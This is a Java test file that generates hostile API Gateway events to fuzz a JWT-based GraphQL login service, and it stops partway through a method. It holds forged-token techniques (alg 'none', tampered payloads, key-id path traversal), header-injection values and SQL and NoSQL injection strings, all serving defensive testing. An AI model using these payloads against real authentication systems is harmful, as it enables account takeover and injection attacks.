package dev.tokenauth;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Date;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;

import com.auth0.jwt.JWT;
import com.auth0.jwt.algorithms.Algorithm;
import dev.tokenauth.token.Principal;
import dev.tokenauth.token.TokenPair;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Generators of hostile API Gateway REST proxy events, each a pure function of a {@link Random}
 * (so a run is reproduced by its seed) and of the {@link Victim}, a real user whose genuine tokens
 * the forgeries start from. Every generator returns the event as raw bytes, with the secrets it
 * made up (passwords, tokens) so that the test can look for them in the logs.
 */
final class HostileEvents {

    /** A registered user, whose genuine tokens are forged from and must never be bypassed. */
    record Victim(String username, String password, TokenPair tokens, Principal principal) {
    }

    /** What must hold beyond the common invariants. */
    enum Expect {
        /** The common invariants only. */
        ANY,
        /** Forged or stale tokens only: no user may come out, no token may be minted. */
        NOT_AUTHENTICATED
    }

    /**
     * One generated event. {@code eventLevel}: the bytes are not an event API Gateway could send
     * (bad JSON, wrong field types), so the invocation may fail as a Lambda error.
     */
    record Hostile(String category, String description, byte[] bytes, boolean eventLevel, Expect expect,
                   List<String> secrets) {

        String text() {
            return new String(bytes, StandardCharsets.UTF_8);
        }

        @Override
        public String toString() {
            String oneLine = description.replace("\r", "\\r").replace("\n", "\\n");
            String shown = oneLine.length() > 300 ? oneLine.substring(0, 300) + "..." : oneLine;
            return category + ": " + shown + " (" + bytes.length + " bytes)";
        }
    }

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final Path EVENTS = Path.of(System.getProperty("events.dir", "events"));
    private static final Map<String, ObjectNode> TEMPLATES = new LinkedHashMap<>();

    static {
        for (String file : List.of("register.json", "login.json", "logged-in-user.json", "logout.json",
                "logged-in-user-get.json", "preflight.json")) {
            try {
                TEMPLATES.put(file, (ObjectNode) Event.JSON.readTree(Files.readString(EVENTS.resolve(file))));
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }

    /** The generators by category, in run order. */
    static final Map<String, BiFunction<Random, Victim, Hostile>> CATEGORIES = new LinkedHashMap<>();

    static {
        CATEGORIES.put("raw-bytes", HostileEvents::rawBytes);
        CATEGORIES.put("wrong-types", HostileEvents::wrongTypes);
        CATEGORIES.put("malformed-body", HostileEvents::malformedBody);
        CATEGORIES.put("huge-and-deep", HostileEvents::hugeAndDeep);
        CATEGORIES.put("encoding", HostileEvents::encoding);
        CATEGORIES.put("headers", HostileEvents::headers);
        CATEGORIES.put("forged-tokens", HostileEvents::forgedTokens);
        CATEGORIES.put("odd-signed-tokens", HostileEvents::oddSignedTokens);
        CATEGORIES.put("credentials", HostileEvents::credentials);
        CATEGORIES.put("methods-and-paths", HostileEvents::methodsAndPaths);
    }

    private HostileEvents() {
    }

    static ObjectNode template(String file) {
        return TEMPLATES.get(file).deepCopy();
    }

    // ---------------------------------------------------------------- event level

    /** Bytes that are not an event: garbage, truncations, bare JSON values, invalid UTF-8, deep nesting. */
    static Hostile rawBytes(Random random, Victim victim) {
        String token = ghostToken(random);
        ObjectNode event = withToken(random, template(randomTemplate(random)), token);
        byte[] valid = bytes(event);
        List<String> secrets = List.of(token);
        return switch (random.nextInt(9)) {
            case 0 -> {
                byte[] garbage = new byte[random.nextInt(2048)];
                random.nextBytes(garbage);
                yield raw("random bytes", garbage, secrets);
            }
            case 1 -> {
                int cut = random.nextInt(valid.length);
                yield raw("event truncated at " + cut, Arrays.copyOf(valid, cut), secrets);
            }
            case 2 -> raw("bare JSON value", utf8(pick(random, "null", "true", "0", "-1", "1e999", "\"\"",
                    "\"POST /graphql\"", "[]", "[{}]", "{}", " ", "\uFEFF{}", "{\"httpMethod\":\"POST\"}x", "{}{}",
                    "{\"a\":1,}", "/* c */ {}", "NaN")), secrets);
            case 3 -> {
                byte[] flipped = valid.clone();
                for (int i = 0, n = 1 + random.nextInt(8); i < n; i++) {
                    flipped[random.nextInt(flipped.length)] = (byte) random.nextInt(256);
                }
                yield raw("event with flipped bytes", flipped, secrets);
            }
            case 4 -> {
                int depth = pick(random, 600, 2_000, 50_000);
                String open = pick(random, "[", "{\"a\":");
                String close = open.equals("[") ? "]" : "}";
                yield raw(depth + " nested " + open + " at event level",
                        utf8(open.repeat(depth) + "1" + close.repeat(depth)), List.of());
            }
            case 5 -> {
                int at = random.nextInt(valid.length);
                byte[] bad = insert(valid, at, invalidUtf8(random));
                yield raw("invalid UTF-8 in the event at " + at, bad, secrets);
            }
            case 6 -> {
                String text = new String(valid, StandardCharsets.UTF_8);
                yield raw("event with a duplicated key", utf8(text.replaceFirst("\"httpMethod\"",
                        "\"httpMethod\":\"DELETE\",\"httpMethod\"")), secrets);
            }
            case 7 -> raw("event in UTF-16", new String(valid, StandardCharsets.UTF_8)
                    .getBytes(StandardCharsets.UTF_16), secrets);
            default -> raw("event with a trailing comma / garbage", utf8(new String(valid, StandardCharsets.UTF_8)
                    .replaceFirst("}\\s*$", pick(random, ",}", "}}", "} garbage", "}\u0000"))), secrets);
        };
    }

    /** Well-formed JSON whose fields have the wrong type: httpMethod a number, headers an array... */
    static Hostile wrongTypes(Random random, Victim victim) {
        String token = ghostToken(random);
        ObjectNode event = withToken(random, template(randomTemplate(random)), token);
        var changes = new StringBuilder();
        for (int i = 0, n = 1 + random.nextInt(3); i < n; i++) {
            String field = pick(random, "httpMethod", "path", "headers", "multiValueHeaders", "body",
                    "isBase64Encoded", "queryStringParameters", "multiValueQueryStringParameters", "requestContext",
                    "resource", "pathParameters", "stageVariables", "headers.Content-Type",
                    "multiValueHeaders.Content-Type", "requestContext.requestId", "requestContext.identity",
                    "multiValueHeaders.x-access-token", "headers.x-access-token");
            JsonNode value = wrongValue(random);
            changes.append(field).append('=').append(abbreviate(value.toString())).append(' ');
            int dot = field.indexOf('.');
            if (dot < 0) {
                event.set(field, value);
            } else {
                JsonNode parent = event.get(field.substring(0, dot));
                if (parent instanceof ObjectNode object) {
                    object.set(field.substring(dot + 1), value);
                }
            }
        }
        return new Hostile("wrong-types", changes.toString().trim(), bytes(event), true, Expect.ANY, List.of(token));
    }

    // ---------------------------------------------------------------- body level

    /** A well-formed event whose body is malformed or wrongly typed GraphQL-over-HTTP JSON. */
    static Hostile malformedBody(Random random, Victim victim) {
        ObjectNode event = template(pick(random, "register.json", "login.json", "logged-in-user.json", "logout.json"));
        String good = event.get("body").stringValue();
        String password = secretPassword(random);
        String body = switch (random.nextInt(12)) {
            case 0 -> good.substring(0, random.nextInt(good.length()));
            case 1 -> {
                char[] chars = good.toCharArray();
                for (int i = 0, n = 1 + random.nextInt(4); i < n; i++) {
                    chars[random.nextInt(chars.length)] = pick(random, '{', '}', '"', '\\', ':', ',', '[', '\u0000');
                }
                yield new String(chars);
            }
            case 2 -> "{\"query\":" + wrongValue(random) + "}";
            case 3 -> "{\"query\":\"{ __typename }\",\"variables\":" + wrongValue(random) + "}";
            case 4 -> "{\"query\":\"{ __typename }\",\"operationName\":" + wrongValue(random) + "}";
            case 5 -> "{\"query\":\"{ __typename }\",\"query\":\"mutation { logout }\"}";
            // Arrays too: the AWS adapter would split them into events (see HostileRegressionIT).
            case 6 -> pick(random, "", " ", "\n", "null", "42", "[]", "[{\"query\":\"{ __typename }\"}]", "[1,2]",
                    "\"{ __typename }\"", "{}", "{\"query\":\"\"}",
                    "{\"query\":\"   \"}", "\uFEFF{\"query\":\"{ __typename }\"}", "{\"query\":\"{ __typename }\"}x",
                    "{\"query\":\"{ __typename }\"} {}", "{'query':'{ __typename }'}", "{query:\"{ __typename }\"}");
            case 7 -> "{\"query\":\"mutation($u: String!, $p: String!) { register(username: $u, password: $p) "
                    + "{ accessToken } }\",\"variables\":{\"u\":" + wrongValue(random) + ",\"p\":"
                    + Event.JSON.writeValueAsString(password) + "}}";
            case 8 -> "{\"query\":\"mutation($u: String!, $p: String!) { login(username: $u, password: $p) "
                    + "{ accessToken } }\",\"variables\":{\"u\":\"" + victim.username() + "\",\"p\":"
                    + wrongValue(random) + "}}";
            case 9 -> "{\"query\":\"{ __typename }\",\"variables\":{\"a\":1,\"a\":2}}";
            case 10 -> "{\"query\":\"" + pick(random, "{", "}", "{ loggedInUser { ", "mutation", "query q($x: ) { a }",
                    "{ loggedInUser { id } } { loggedInUser { id } }", "query a { __typename } query a { __typename }",
                    "{ __schema { types { name } } }", "subscription { x }", "{ ...F }", "fragment F on Query { __typename }",
                    "{ loggedInUser(id: 1) { id } }", "{ __typename @skip }", "\\u0000", "{ a: __typename a: loggedInUser { id } }")
                    + "\",\"operationName\":" + pick(random, "null", "\"a\"", "\"\"", "\"x\"") + "}";
            default -> "{\"query\":\"{ __typename }\",\"variables\":{\"x\":1e99999,\"y\":-0,\"z\":123456789012345678901234567890}}";
        };
        event.put("body", body);
        event.put("isBase64Encoded", false);
        return new Hostile("malformed-body", body, bytes(event), false, Expect.ANY, List.of(password));
    }

    /** Huge and deep: 10k nested selections, 1 MB queries (POST and GET), deep JSON variables, many aliases. */
    static Hostile hugeAndDeep(Random random, Victim victim) {
        ObjectNode event = template("logged-in-user.json");
        String description;
        switch (random.nextInt(8)) {
            case 0 -> {
                int depth = pick(random, 600, 10_000, 20_000);
                String query = "{ loggedInUser ".concat("{ id ".repeat(depth)).concat("}".repeat(depth + 1));
                setQuery(random, event, query);
                description = depth + " nested selections";
            }
            case 1 -> {
                int size = pick(random, 70_000, 1 << 20);
                String query = "{ __typename " + "#".repeat(size) + "\n}";
                setQuery(random, event, query);
                description = size + "-char query (comment)";
            }
            case 2 -> {
                int count = pick(random, 5_000, 20_000, 60_000);
                var query = new StringBuilder("{ ");
                for (int i = 0; i < count; i++) {
                    query.append('a').append(i).append(": __typename ");
                }
                setQuery(random, event, query.append('}').toString());
                description = count + " aliases";
            }
            case 3 -> {
                int depth = pick(random, 100, 499, 501, 1_000, 5_000);
                String variables = "{\"deep\":" + "[".repeat(depth) + "1" + "]".repeat(depth) + "}";
                setQueryAndVariables(random, event, "query($deep: String) { __typename }", variables);
                description = depth + "-deep JSON array variable";
            }
            case 4 -> {
                int depth = pick(random, 100, 499, 501, 2_000);
                String variables = "{\"username\":" + "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)
                        + ",\"password\":\"x\"}";
                setQueryAndVariables(random, event, "mutation($username: String!, $password: String!) "
                        + "{ login(username: $username, password: $password) { accessToken } }", variables);
                description = depth + "-deep JSON object as the login username";
            }
            case 5 -> {
                // 1,000 of them took graphql-java's validation tens of seconds: see HostileRegressionIT.
                int count = pick(random, 20, 100, 1_000, 10_000);
                var query = new StringBuilder("query {  __typename } ");
                for (int i = 0; i < count; i++) {
                    query.append("fragment f").append(i).append(" on Query { ...f").append(i + 1).append(" } ");
                }
                setQuery(random, event, query.toString());
                description = count + " chained fragments";
            }
            case 6 -> {
                int size = pick(random, 10_000, 60_000, 1 << 20);
                String name = "n".repeat(size);
                setQueryAndVariables(random, event, "mutation($u: String!, $p: String!) "
                        + "{ register(username: $u, password: $p) { accessToken } }",
                        "{\"u\":\"" + name + "\",\"p\":\"" + name + "\"}");
                description = size + "-char username and password";
            }
            default -> {
                String query = "{ " + "loggedInUser { id } ".repeat(pick(random, 1_000, 5_000)) + "}";
                setQuery(random, event, query);
                description = "the same field thousands of times";
            }
        }
        return new Hostile("huge-and-deep", description, bytes(event), false, Expect.ANY, List.of());
    }

    /** Invalid base64, invalid UTF-8 (overlong, lone surrogates, bad continuations), NUL, BOM. */
    static Hostile encoding(Random random, Victim victim) {
        ObjectNode event = template(pick(random, "logged-in-user.json", "login.json"));
        byte[] good = event.get("body").stringValue().getBytes(StandardCharsets.UTF_8);
        String description;
        switch (random.nextInt(7)) {
            case 0 -> {
                String bad = pick(random, "%%%", "====", "a", "ab=c", "YWJj\u0000", "YW Jj", "YWJj-_", "Y", "\u00e9\u00e9",
                        "eyJxdWVyeSI6IntfX3R5cGVuYW1lfSJ9===", "*".repeat(random.nextInt(100)));
                event.put("body", bad);
                event.put("isBase64Encoded", true);
                description = "invalid base64 " + abbreviate(bad);
            }
            case 1 -> {
                byte[] bad = insert(good, random.nextInt(good.length), invalidUtf8(random));
                event.put("body", Base64.getEncoder().encodeToString(bad));
                event.put("isBase64Encoded", true);
                description = "invalid UTF-8 in a base64 body";
            }
            case 2 -> {
                event.put("body", Base64.getUrlEncoder().encodeToString(good));
                event.put("isBase64Encoded", true);
                description = "URL-safe base64";
            }
            case 3 -> {
                String text = new String(good, StandardCharsets.UTF_8);
                String inserted = pick(random, "\\ud800", "\\udfff", "\\ud800\\ud800", "\\u0000", "\\uFFFF", "\\uDBFF\\uDFFF");
                int quote = text.lastIndexOf('"');
                event.put("body", text.substring(0, quote) + inserted + text.substring(quote));
                event.put("isBase64Encoded", false);
                description = "JSON escape " + inserted + " in a string";
            }
            case 4 -> {
                String text = new String(good, StandardCharsets.UTF_8);
                int at = random.nextInt(text.length());
                char raw = pick(random, '\u0000', '\ud800', '\udc00', '\ufeff', '\u202e', '\u200b', '\u0007');
                event.put("body", text.substring(0, at) + raw + text.substring(at));
                event.put("isBase64Encoded", false);
                description = "raw U+" + Integer.toHexString(raw) + " at " + at;
            }
            case 5 -> {
                byte[] garbage = new byte[random.nextInt(512)];
                random.nextBytes(garbage);
                event.put("body", Base64.getEncoder().encodeToString(garbage));
                event.put("isBase64Encoded", true);
                description = "random bytes, base64";
            }
            default -> {
                byte[] utf16 = new String(good, StandardCharsets.UTF_8).getBytes(
                        pick(random, StandardCharsets.UTF_16, StandardCharsets.UTF_16LE, StandardCharsets.ISO_8859_1));
                event.put("body", Base64.getEncoder().encodeToString(utf16));
                event.put("isBase64Encoded", true);
                description = "body in another charset, base64";
            }
        }
        return new Hostile("encoding", description, bytes(event), false, Expect.ANY, List.of());
    }

    // ---------------------------------------------------------------- headers

    /** Missing, duplicated, conflicting, null and oddly cased headers. */
    static Hostile headers(Random random, Victim victim) {
        // Not logout.json: the victim's genuine tokens appear here, and a logout would be a legitimate write.
        ObjectNode event = template(pick(random, "logged-in-user.json", "logged-in-user-get.json", "preflight.json"));
        String forged = forgedToken(random, victim);
        var description = new StringBuilder();
        for (int i = 0, n = 1 + random.nextInt(3); i < n; i++) {
            String name = oddCase(random, pick(random, "x-access-token", "x-refresh-token", "content-type", "accept",
                    "origin", "access-control-request-method", "content-length", "host", "authorization", ""));
            String value = pick(random, forged, victim.tokens().refreshToken(), victim.tokens().accessToken(),
                    "application/json", "APPLICATION/JSON; charset=utf-16", "application/json;;;", "text/plain",
                    "application/graphql-response+json", "*/*", "", " ", "null", "\u0000", "\r\nX-Injected: 1",
                    "a".repeat(10_000), "https://evil.example", "application/jsonx");
            switch (random.nextInt(8)) {
                case 0 -> removeHeader(event, name);
                case 1 -> {
                    // conflicting values: the multi-value map says one thing, the single map another
                    headerObject(event, "headers").put(name, value);
                    headerObject(event, "multiValueHeaders").putArray(name).add(value).add(value + "x");
                }
                case 2 -> {
                    headerObject(event, "headers").put(name, value);
                    headerObject(event, "multiValueHeaders").putArray(name).add(forged);
                }
                case 3 -> {
                    headerObject(event, "headers").put(name, value);
                    headerObject(event, "headers").put(oddCase(random, name), value + "y");
                }
                case 4 -> {
                    headerObject(event, "headers").putNull(name);
                    headerObject(event, "multiValueHeaders").putArray(name).addNull().add(value);
                }
                case 5 -> headerObject(event, "multiValueHeaders").putArray(name);
                case 6 -> {
                    event.putNull(pick(random, "headers", "multiValueHeaders"));
                    description.append("(map nulled) ");
                }
                default -> {
                    headerObject(event, "headers").put(name, value);
                    headerObject(event, "multiValueHeaders").putArray(name).add(value);
                }
            }
            description.append(name).append(": ").append(abbreviate(value)).append("; ");
        }
        // Tokens here are forged or belong to the victim alone; conflicting copies must not authenticate.
        return new Hostile("headers", description.toString(), bytes(event), false, Expect.ANY,
                List.of(forged, victim.tokens().accessToken(), victim.tokens().refreshToken()));
    }

    // ---------------------------------------------------------------- tokens

    /** Forged and stale tokens, alone or in pairs, on the queries that need a user. */
    static Hostile forgedTokens(Random random, Victim victim) {
        ObjectNode event = template(pick(random, "logged-in-user.json", "logout.json", "logged-in-user-get.json"));
        String access = random.nextInt(4) == 0 ? null : forgedToken(random, victim);
        String refresh = random.nextInt(3) == 0 ? forgedToken(random, victim) : null;
        if (access == null && refresh == null) {
            refresh = forgedToken(random, victim);
        }
        List<String> secrets = new ArrayList<>();
        if (access != null) {
            setHeader(event, oddCase(random, "x-access-token"), access);
            secrets.add(access);
        }
        if (refresh != null) {
            setHeader(event, oddCase(random, "x-refresh-token"), refresh);
            secrets.add(refresh);
        }
        return new Hostile("forged-tokens", "access=" + describe(access) + " refresh=" + describe(refresh),
                bytes(event), false, Expect.NOT_AUTHENTICATED, secrets);
    }

    /**
     * Tokens signed with the deployed keys but with odd claims (missing, wrong type, another user,
     * huge values): what a leaked key or a bug in the issuer would produce. No 5xx, no stack trace.
     */
    static Hostile oddSignedTokens(Random random, Victim victim) {
        // Read-only: these tokens carry the deployed keys, so a logout with them would be a legitimate write.
        ObjectNode event = template("logged-in-user.json");
        boolean asRefresh = random.nextBoolean();
        String secret = asRefresh ? LambdaHarness.REFRESH_SECRET : LambdaHarness.ACCESS_SECRET;
        // With the real key id, so that these reach claim checking rather than stopping at the kid.
        var builder = JWT.create().withKeyId(keyId(secret)).withIssuer(LambdaHarness.ISSUER)
                .withClaim("token_use", asRefresh ? "refresh" : "access")
                .withClaim("sid", pick(random, victim.principal().sessionId(), "", "other-session"))
                .withClaim("gen", pick(random, 0L, -1L, Long.MAX_VALUE))
                .withIssuedAt(Instant.now().minusSeconds(5)).withExpiresAt(Instant.now().plusSeconds(600));
        String description;
        switch (random.nextInt(8)) {
            case 0 -> {
                builder.withClaim("username", victim.username());
                builder.withClaim("cnt", 0L);
                description = "no sub";
            }
            case 1 -> {
                builder.withSubject(victim.principal().userId()).withClaim("cnt", 0L);
                description = "no username";
            }
            case 2 -> {
                builder.withSubject(victim.principal().userId()).withClaim("username", victim.username())
                        .withClaim("cnt", pick(random, "0", "x", "1e3"));
                description = "cnt as a string";
            }
            case 3 -> {
                builder.withSubject(victim.principal().userId()).withClaim("username", pick(random, "",
                        "~snapstart-priming~", "a".repeat(2_000), "x' OR '1'='1", "{\"$ne\":null}", victim.username() + "\u0000"))
                        .withClaim("cnt", 0L);
                description = "odd username claim";
            }
            case 4 -> {
                builder.withSubject("not-the-victim").withClaim("username", victim.username()).withClaim("cnt", 0L);
                description = "another user id for the victim's name";
            }
            case 5 -> {
                builder.withSubject(victim.principal().userId()).withClaim("username", victim.username())
                        .withClaim("cnt", pick(random, -1L, Long.MAX_VALUE, Long.MIN_VALUE, 1L));
                description = "stale or absurd cnt";
            }
            case 6 -> {
                builder.withSubject(victim.principal().userId()).withClaim("username", victim.username())
                        .withClaim("cnt", 0.5d);
                description = "cnt as a fraction";
            }
            default -> {
                builder.withSubject(victim.principal().userId()).withClaim("username", victim.username())
                        .withClaim("cnt", 0L).withArrayClaim("aud", new String[] {"x", "y"})
                        .withClaim("extra", Map.of("nested", List.of(1, 2, 3)));
                description = "extra claims";
            }
        }
        if (!asRefresh) {
            builder.withAudience(dev.tokenauth.token.TokenSettings.DEFAULT_AUDIENCE);
        }
        String token = builder.sign(algorithm(secret));
        setHeader(event, asRefresh ? "x-refresh-token" : "x-access-token", token);
        return new Hostile("odd-signed-tokens", description + (asRefresh ? " (refresh)" : " (access)"),
                bytes(event), false, Expect.ANY, List.of(token));
    }

    /** A token that must never authenticate anybody. */
    static String forgedToken(Random random, Victim victim) {
        String access = victim.tokens().accessToken();
        String refresh = victim.tokens().refreshToken();
        String[] parts = access.split("\\.");
        Principal principal = victim.principal();
        String wrongKey = "an-attacker-key-that-is-long-enough-" + random.nextInt(1_000_000);
        return switch (random.nextInt(19)) {
            case 0 -> b64("{\"alg\":\"" + pick(random, "none", "None", "NONE", "nOnE") + "\",\"typ\":\"JWT\"}")
                    + "." + parts[1] + "." + pick(random, "", parts[2]);
            case 1 -> JWT.create().withIssuer(LambdaHarness.ISSUER).withSubject(principal.userId())
                    .withClaim("username", principal.username()).withClaim("cnt", 0L)
                    .withClaim("token_use", pick(random, "access", "refresh")).withIssuedAt(new Date())
                    .withExpiresAt(new Date(System.currentTimeMillis() + 600_000))
                    .withKeyId(pick(random, null, "access", "refresh", "../../../../dev/null", "' OR 1=1 --", "0"))
                    .sign(Algorithm.HMAC256(wrongKey));
            case 2 -> pick(random, refresh, access) + "." + pick(random, "", "x", parts[2]);
            case 3 -> "." + pick(random, access, refresh);
            case 4 -> parts[0] + ".." + parts[1] + "." + parts[2];
            case 5 -> parts[0] + "." + tamper(random, parts[1], principal) + "." + parts[2];
            case 6 -> LambdaHarness.tokens(Duration.ofMinutes(-16 - random.nextInt(10_000))).issue(principal).accessToken();
            case 7 -> LambdaHarness.tokens(Duration.ofDays(-8 - random.nextInt(100))).issue(principal).refreshToken();
            case 8 -> signed(random, principal, LambdaHarness.ACCESS_SECRET, "access",
                    builder -> builder.withNotBefore(Instant.now().plusSeconds(60 + random.nextInt(100_000))));
            case 9 -> signed(random, principal, pick(random, LambdaHarness.ACCESS_SECRET, LambdaHarness.REFRESH_SECRET),
                    pick(random, "access", "refresh"),
                    builder -> builder.withIssuedAt(Instant.now().plusSeconds(60 + random.nextInt(100_000))));
            case 10 -> {
                // access/refresh swapped: the right kind's claim, the other kind's key
                boolean accessKey = random.nextBoolean();
                yield signed(random, principal, accessKey ? LambdaHarness.ACCESS_SECRET : LambdaHarness.REFRESH_SECRET,
                        accessKey ? "refresh" : "access", builder -> { });
            }
            case 11 -> signed(random, principal, LambdaHarness.ACCESS_SECRET, pick(random, null, "", "ACCESS", "id", "refresh"),
                    builder -> { });
            case 12 -> {
                // The right key, the wrong algorithm: the verifier is pinned to HS256.
                var builder = JWT.create().withIssuer(LambdaHarness.ISSUER).withSubject(principal.userId())
                        .withClaim("username", principal.username()).withClaim("cnt", 0L).withClaim("token_use", "access")
                        .withIssuedAt(new Date()).withExpiresAt(new Date(System.currentTimeMillis() + 600_000));
                yield random.nextBoolean() ? builder.sign(Algorithm.HMAC512(LambdaHarness.ACCESS_SECRET))
                        : builder.sign(Algorithm.HMAC384(LambdaHarness.ACCESS_SECRET));
            }
            case 13 -> access + "A".repeat(pick(random, 1, 4_096, 100_000));
            case 14 -> {
                byte[] noise = new byte[1 + random.nextInt(400)];
                random.nextBytes(noise);
                String text = Base64.getUrlEncoder().withoutPadding().encodeToString(noise);
                int a = random.nextInt(text.length() + 1);
                int b = a + random.nextInt(text.length() - a + 1);
                yield random.nextBoolean() ? text : text.substring(0, a) + "." + text.substring(a, b) + "." + text.substring(b);
            }
            case 15 -> pick(random, "Bearer " + access, access.replace('.', '\u2024'), access.toUpperCase(),
                    access + "\u0000", standardBase64(access),
                    "null", "undefined", "[object Object]", "..", ".", "a.b.c", "e30.e30.", "e30.e30.e30");
            case 16 -> signed(random, principal, LambdaHarness.ACCESS_SECRET, "access",
                    builder -> builder.withIssuer(pick(random, "", "token-auth-graphql", LambdaHarness.ISSUER + " ", "evil")));
            case 17 -> {
                // The genuine signature's bytes, spelt otherwise: only the canonical spelling verifies.
                List<String> spellings = otherSpellingsOfTheSignature(pick(random, access, refresh));
                yield spellings.get(random.nextInt(spellings.size()));
            }
            default -> b64("{\"alg\":\"HS256\",\"typ\":\"JWT\",\"kid\":\"" + pick(random, "x", "access") + "\"}") + "."
                    + b64("{\"sub\":\"" + principal.userId() + "\",\"username\":\"" + principal.username()
                    + "\",\"cnt\":0,\"token_use\":\"access\",\"iss\":\"" + LambdaHarness.ISSUER + "\",\"iat\":"
                    + Instant.now().getEpochSecond() + ",\"exp\":" + (Instant.now().getEpochSecond() + 600) + "}")
                    + "." + parts[2];
        };
    }

    /** The token in the standard base64 alphabet; when that changes nothing, a token that is surely different. */
    private static String standardBase64(String token) {
        String changed = token.replace('-', '+').replace('_', '/');
        return changed.equals(token) ? token.replaceFirst("\\.", "+.") : changed;
    }

    /** A token's decoded header and payload, for failure messages (never its signature). */
    static String describe(String token) {
        if (token == null) {
            return "none";
        }
        String[] parts = token.split("\\.", -1);
        var shown = new StringBuilder(parts.length + " parts, " + token.length() + " chars");
        for (int i = 0; i < Math.min(2, parts.length); i++) {
            try {
                shown.append(' ').append(new String(Base64.getUrlDecoder().decode(parts[i]), StandardCharsets.UTF_8));
            } catch (IllegalArgumentException e) {
                shown.append(" <not base64url>");
            }
        }
        return abbreviate(shown.toString().replace("\n", " "));
    }

    /**
     * The token with the same signature bytes spelt otherwise in base64url: other values of the
     * unused low bits of the last character, and padding.
     */
    static List<String> otherSpellingsOfTheSignature(String token) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        String signature = token.substring(token.lastIndexOf('.') + 1);
        int last = alphabet.indexOf(signature.charAt(signature.length() - 1));
        int unusedBits = (signature.length() * 6) % 8;
        List<String> spellings = new ArrayList<>();
        for (int low = 1; low < (1 << unusedBits); low++) {
            spellings.add(token.substring(0, token.length() - 1)
                    + alphabet.charAt((last & ~((1 << unusedBits) - 1)) | low));
        }
        int padding = (4 - signature.length() % 4) % 4;
        spellings.add(token + "=".repeat(padding == 0 ? 4 : padding));
        return spellings;
    }

    /** The key id the service gives a key: the ES256 key derived from the access secret, or the HMAC key. */
    private static String keyId(String key) {
        byte[] bytes = key.getBytes(java.nio.charset.StandardCharsets.UTF_8);
        return key.equals(LambdaHarness.ACCESS_SECRET)
                ? dev.tokenauth.token.Es256Keys.keyId(dev.tokenauth.token.Es256Keys.publicKey(bytes))
                : dev.tokenauth.token.TokenService.keyId(bytes);
    }

    /** How the service signs with a key: ES256 for the access secret, HS256 for the refresh secret. */
    private static Algorithm algorithm(String key) {
        return key.equals(LambdaHarness.ACCESS_SECRET)
                ? JwksIT.es256(key.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                : Algorithm.HMAC256(key);
    }

    private static String signed(Random random, Principal principal, String key, String use,
                                 java.util.function.Consumer<com.auth0.jwt.JWTCreator.Builder> tweak) {
        var builder = JWT.create().withKeyId(keyId(key)).withIssuer(LambdaHarness.ISSUER)
                .withAudience(dev.tokenauth.token.TokenSettings.DEFAULT_AUDIENCE)
                .withSubject(principal.userId())
                .withClaim("username", principal.username()).withClaim("cnt", principal.tokenCount())
                .withClaim("sid", principal.sessionId()).withClaim("gen", 0L)
                .withIssuedAt(Instant.now().minusSeconds(1)).withExpiresAt(Instant.now().plusSeconds(600))
                .withJWTId("forged-" + random.nextLong());
        if (use != null) {
            builder.withClaim("token_use", use);
        }
        tweak.accept(builder);
        return builder.sign(algorithm(key));
    }

    private static String tamper(Random random, String payload, Principal principal) {
        String json = new String(Base64.getUrlDecoder().decode(payload), StandardCharsets.UTF_8);
        String changed = switch (random.nextInt(4)) {
            case 0 -> json.replace(principal.username(), principal.username() + "x");
            case 1 -> json.replaceAll("\"exp\":\\d+", "\"exp\":9999999999");
            case 2 -> json.replace("\"access\"", "\"refresh\"");
            default -> json.replaceAll("\"cnt\":\\d+", "\"cnt\":1");
        };
        return b64(changed);
    }

    // ---------------------------------------------------------------- credentials

    /** register and login with unicode, injection-looking, huge and null usernames and passwords. */
    static Hostile credentials(Random random, Victim victim) {
        boolean register = random.nextBoolean();
        ObjectNode event = template(register ? "register.json" : "login.json");
        ObjectNode body = (ObjectNode) Event.JSON.readTree(event.get("body").stringValue());
        ObjectNode variables = body.putObject("variables");
        String username = nastyString(random, true);
        String password = random.nextInt(6) == 0 ? victim.password() : secretPassword(random);
        if (random.nextInt(12) == 0) {
            username = victim.username();
        }
        putNullable(random, variables, "username", username);
        putNullable(random, variables, "password", password);
        if (random.nextInt(20) == 0) {
            variables.put("extra", nastyString(random, false));
        }
        event.put("body", body.toString());
        List<String> secrets = List.of(password);
        return new Hostile("credentials", (register ? "register " : "login ") + abbreviate(variables.toString()),
                bytes(event), false, Expect.ANY, secrets);
    }

    private static void putNullable(Random random, ObjectNode variables, String name, String value) {
        switch (random.nextInt(25)) {
            case 0 -> variables.putNull(name);
            case 1 -> variables.remove(name);
            default -> variables.put(name, value);
        }
    }

    /** Usernames: some legitimate (they must register), most hostile. */
    static String nastyString(Random random, boolean username) {
        String nonce = Long.toString(random.nextLong() & Long.MAX_VALUE, 36);
        return switch (random.nextInt(16)) {
            case 0 -> "u" + nonce.substring(0, Math.min(8, nonce.length()));
            case 1 -> "\uFF55\uFF53\uFF45\uFF52" + nonce.substring(0, Math.min(6, nonce.length()));
            case 2 -> pick(random, "x' OR '1'='1", "admin'--", "'; DROP TABLE users; --", "\" OR \"\"=\"",
                    "1; SELECT * FROM users", "{\"$ne\": null}", "{\"$gt\": \"\"}", "' || '1'=='1", "admin\" #",
                    "attribute_exists(username)", "username = :u OR 1=1", "#username", ":one");
            case 3 -> "ad\u202Emin" + nonce.substring(0, 3);
            case 4 -> "u\u200b" + nonce.substring(0, 5) + "\u200d\ufeff";
            case 5 -> "a".repeat(pick(random, 31, 32, 33, 256, 257, 10_000));
            case 6 -> pick(random, "", " ", "   ", "\t\n", "ab", "abc", "\u0000", "\u0000abc", "abc\u0000def");
            case 7 -> "\uD83D\uDE00" + nonce;
            case 8 -> "user" + pick(random, "\uD800", "\uDFFF", "\uFFFF", "\uFFFE") + nonce.substring(0, 3);
